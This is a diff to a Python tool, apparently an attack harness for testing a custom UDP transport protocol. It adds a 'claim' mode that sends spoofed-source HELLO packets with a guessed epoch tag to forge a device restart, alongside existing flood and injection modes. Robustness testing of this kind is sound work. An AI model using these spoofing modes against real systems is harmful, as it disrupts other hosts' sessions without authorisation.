@@ -69,6 +69,9 @@ port of --src, as any unprivileged user can, receiving nothing:
   hello-flood N SECS  N HELLOs spread over SECS seconds, random src_epoch;
                 every other one has dst_epoch 0 (a restart claim), the
                 others a random dst_epoch.
+  claim N TAG   N HELLOs with dst_epoch TAG (the target's tag for --src,
+                learned elsewhere: a lucky guess) and a random src_epoch,
+                challenge and echo: a forged restart of --src's device.
   slide N TAG   N single-segment DATA packets with dst_epoch TAG (a tag
                 learned elsewhere, say by `hello` from the attacker's own
                 address), random src_epoch and QPNs, and msg_id = msg_base
@@ -1082,6 +1085,12 @@ def mode_blind(mode, args, src, target, port):
             s.sendto(hello(r32(), 0 if i % 2 == 0 else r32()), (target, port))
             sent += 1
             time.sleep(secs / max(n, 1))
+    elif mode == "claim":
+        n, tag = int(args[0]), int(args[1], 0)
+        s = blind_socket(src)
+        for i in range(n):
+            s.sendto(hello(r32(), tag, r32(), r32()), (target, port))
+            sent += 1
     elif mode == "slide":
         n, tag = int(args[0]), int(args[1], 0)
         s = blind_socket(src)
@@ -1460,7 +1469,7 @@ def main(argv):
         return mode_sniff(args[1], float(args[2]), port, "--out-only" in flags, ops)
     if len(args) < 2 or "--src" not in opts:
         usage()
-    blind = {"hello-flood": 2, "slide": 2, "sources": 2, "peers": 2, "zero-csum": 0}
+    blind = {"hello-flood": 2, "claim": 2, "slide": 2, "sources": 2, "peers": 2, "zero-csum": 0}
     if args[1] in blind:
         if len(args) - 2 != blind[args[1]]:
             usage()
